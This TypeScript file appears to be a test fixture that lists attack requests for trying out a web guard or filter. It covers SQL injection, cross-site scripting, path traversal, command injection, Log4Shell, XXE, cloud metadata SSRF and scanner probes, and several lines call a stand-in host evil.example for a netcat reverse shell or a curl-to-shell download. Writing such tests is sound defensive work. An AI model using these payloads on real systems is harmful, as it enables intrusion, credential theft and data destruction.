import { ask, askForTag, logIn, ofKind, postLogin, renderLogin } from './attack.ts';
import { protocolAttacks } from './protocol.ts';

const sql = ofKind('SQL injection', {
  'a condition that is always true': askForTag("x' or '1'='1"),
  'the same with a comment': askForTag("x' or 1=1 -- "),
  'a union with the users': askForTag("x' union select username, password from users -- "),
  'a union in mixed case with comments': askForTag("x'/**/UnIoN/**/SeLeCt/**/1,2,3#"),
  'a pause': askForTag("x' and sleep(5)#"),
  'a pause by work': askForTag("x' and benchmark(10000000,md5(1))#"),
  'the names of tables': askForTag("x' and 1=(select count(*) from information_schema.tables)#"),
  'a second statement': askForTag("x'; drop table users; -- "),
  'a file': askForTag("x' union select load_file('/etc/passwd')#"),
  'an error that tells': askForTag("x' and extractvalue(1,concat(0x7e,version()))#"),
  'in the path': ask("/api/profiles/x'%20or%20'1'='1"),
  'in a login': logIn("' or 1=1 -- "),
  'in a login after a byte order mark': postLogin(`\xef\xbb\xbf${renderLogin("' or 1=1 -- ")}`),
  'in a form whose type ends in json': postLogin("user[email]='+or+1=1+--+&user[password]=secret", {
    type: 'application/x-www-form-urlencoded; type=a/json',
  }),
  'in a login after 5,000 parameters': postLogin(renderLogin("' or 1=1 -- "), { query: `?${'a&'.repeat(5_000)}` }),
  'in a cookie': ask('/api/articles?offset=1', { headers: { Cookie: "causality=x' or '1'='1" } }),
});

const script = ofKind('script', {
  'a script': askForTag('<script>alert(1)</script>'),
  'a script in mixed case': askForTag('<ScRiPt src=//evil.example>'),
  'a picture with a handler': askForTag('<img src=x onerror=alert(1)>'),
  'a drawing with a handler': askForTag('<svg/onload=alert(1)>'),
  'an address that runs': askForTag('javascript:alert(document.cookie)'),
  'a frame': askForTag('<iframe src="javascript:alert(1)">'),
  'a handler that breaks out': askForTag('" onmouseover="alert(1)" x="'),
  'encoded twice': ask('/api/articles?tag=%253Cscript%253Ealert(1)%253C%252Fscript%253E'),
  'in the path': ask('/api/profiles/%3Cscript%3Ealert(1)%3C%2Fscript%3E'),
  'in the client’s name': ask('/api/articles?offset=2', { headers: { 'User-Agent': '<script>alert(1)</script>' } }),
  'in the page that led here': ask('/api/articles?offset=3', {
    headers: { Referer: 'http://x/<script>alert(1)</script>' },
  }),
  'in a login': logIn('<script>alert(1)</script>@x.example'),
});

const traversal = ofKind('traversal', {
  'up to the passwords': ask('/../../../../etc/passwd'),
  'up, encoded': ask('/api/profiles/..%2f..%2f..%2fetc%2fpasswd'),
  'up, encoded twice': ask('/api/profiles/%252e%252e%252fetc%252fpasswd'),
  'up, in another alphabet': ask('/api/profiles/..%c0%af..%c0%afetc%c0%afpasswd'),
  'in a query': askForTag('../../../../etc/passwd'),
  'a file by its address': askForTag('file:///etc/passwd'),
  'out of the files of the page': ask('/assets/../record.json'),
  'out of them, encoded': ask('/assets/..%2frecord.json'),
  'the repository': ask('/.git/config'),
  'the settings': ask('/.env'),
  'the processes': askForTag('/proc/self/environ'),
  'with an end in the middle': ask('/api/profiles/demo%00.json'),
  backwards: ask('/api/profiles/..%5c..%5cwindows%5cwin.ini'),
});

const command = ofKind('command', {
  'a second command': askForTag('x; cat /etc/passwd'),
  'a pipe': askForTag('x | nc evil.example 4444 -e /bin/sh'),
  'in backquotes': askForTag('`wget http://evil.example/x`'),
  'in a substitution': askForTag('$(curl http://evil.example/x|sh)'),
  Shellshock: ask('/api/articles?offset=4', { headers: { 'User-Agent': '() { :;}; /bin/bash -c "id"' } }),
  PowerShell: askForTag('powershell -enc SQBFAFgA'),
  PHP: askForTag('<?php system($_GET[0]); ?>'),
  'PHP by its stream': askForTag('php://filter/convert.base64-encode/resource=index.php'),
  Node: askForTag("require('child_process').exec('id')"),
  'a template': askForTag('{{7*7}}'),
  'a template that runs': askForTag("{{constructor.constructor('return process')()}}"),
});

const others = ofKind('other languages and places', {
  'Log4Shell in a query': askForTag('\u0024{jndi:ldap://evil.example/x}'),
  'Log4Shell in a header': ask('/api/articles?offset=5', {
    headers: { 'User-Agent': '\u0024{jndi:ldap://evil.example/x}' },
  }),
  'a class of Java': askForTag('java.lang.Runtime.getRuntime().exec("id")'),
  'a serialized object of Java': askForTag('rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'),
  Struts: ask('/api/articles?offset=6', { headers: { 'Content-Type': '%{(#_=multipart/form-data).(#cmd=id)}' } }),
  'a prototype in a query': ask('/api/articles?__proto__[admin]=1'),
  'the cloud’s own address': askForTag('http://169.254.169.254/latest/meta-data/'),
  'a list of the directory': askForTag('*)(uid=*))(|(uid=*'),
  'an entity of XML': ask('/api/users/login', {
    method: 'POST',
    headers: { 'Content-Type': 'application/xml' },
    body: '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  }),
  'a session that is chosen': ask('/api/articles?PHPSESSID=1', { headers: { Referer: 'http://evil.example/' } }),
});

const scanners = ofKind('scanner', {
  sqlmap: ask('/api/articles?offset=7', { headers: { 'User-Agent': 'sqlmap/1.7#stable (https://sqlmap.org)' } }),
  nikto: ask('/', { headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6)' } }),
  'nikto on the API': ask('/api/articles?offset=8', { headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6)' } }),
  nmap: ask('/api/articles?offset=9', { headers: { 'User-Agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine)' } }),
  masscan: ask('/api/articles?offset=10', { headers: { 'User-Agent': 'masscan/1.3' } }),
  nuclei: ask('/api/articles?offset=11', { headers: { 'User-Agent': 'Nuclei - Open-source project' } }),
  'the login of WordPress': ask('/wp-login.php'),
  'the front end of MySQL': ask('/phpmyadmin/index.php'),
  'a copy of the database': ask('/backup.sql'),
  'the metrics': ask('/metrics'),
  'the server’s own status': ask('/server-status'),
  'a shell that another left': ask('/uploads/shell.php?cmd=id'),
});

/** What the guard is tried with, by kind. docs/edge.md has what came of it. */
export const attacks = [...sql, ...script, ...traversal, ...command, ...others, ...protocolAttacks, ...scanners];
